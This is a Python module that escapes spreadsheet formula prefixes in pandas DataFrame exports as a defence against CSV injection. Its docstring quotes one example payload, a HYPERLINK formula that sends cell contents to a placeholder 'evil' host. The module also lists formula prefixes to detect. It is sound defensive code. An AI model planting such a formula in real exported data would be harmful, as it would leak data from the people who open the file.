"""Spreadsheet cells that could run as formulas are written as text (CSV / formula injection).

A spreadsheet program evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some programs, a tab or carriage return) as a formula, so a station name such as
``=HYPERLINK("http://evil/?"&A1)`` in shared data can run when a partner opens the export.
Following the OWASP advice on CSV injection, such text values get a leading single quote,
which spreadsheets show as text and never evaluate. Numbers stay numbers: numeric columns
are untouched, and so are text values that are plain numbers (``-12.5``, ``+7``).
"""

from __future__ import annotations

import re

import pandas as pd

__all__ = ["escape_formulas", "escape_value", "FORMULA_PREFIXES"]

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def escape_value(value: object) -> object:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES) \
            and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def escape_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells cannot run as spreadsheet formulas.

    Only text (object or string) columns are looked at, and only values starting with one
    of :data:`FORMULA_PREFIXES` change; numeric, boolean and date columns are kept as they
    are. The column names are escaped too (they become the header row).
    """
    out = frame.copy()
    for name in out.columns:
        col = out[name]
        if pd.api.types.is_object_dtype(col.dtype) or pd.api.types.is_string_dtype(col.dtype):
            text = col.astype("string")
            risky = text.str.startswith(FORMULA_PREFIXES).fillna(False).to_numpy(bool)
            if risky.any():
                values = col.astype(object).copy()
                idx = risky.nonzero()[0]
                values.iloc[idx] = [escape_value(v) for v in values.iloc[idx]]
                out[name] = values
    out.columns = [escape_value(c) if isinstance(c, str) else c for c in out.columns]
    return out
